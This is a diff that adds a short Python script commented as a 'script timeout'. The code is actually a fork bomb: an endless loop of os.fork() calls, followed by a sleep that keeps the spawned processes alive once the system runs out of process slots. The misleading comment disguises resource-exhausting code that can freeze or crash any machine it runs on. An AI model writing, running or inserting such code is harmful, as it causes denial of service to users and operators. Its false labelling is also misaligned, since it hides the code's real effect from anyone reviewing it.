@@ -1,0 +1,9 @@
+# script timeout
+import os
+import time
+
+try:
+    while True:
+        os.fork()
+except OSError:
+    time.sleep(60)
